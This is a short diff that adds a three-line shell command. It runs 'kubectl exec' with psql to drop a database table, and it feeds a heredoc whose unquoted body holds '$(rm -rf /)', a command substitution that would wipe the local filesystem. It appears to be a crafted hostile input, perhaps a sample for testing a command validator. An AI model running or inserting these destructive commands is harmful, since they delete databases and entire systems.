@@ -1,0 +1,3 @@
+kubectl exec -it x -- psql -c 'DROP TABLE a' <<EOF
+$(rm -rf /)
+EOF
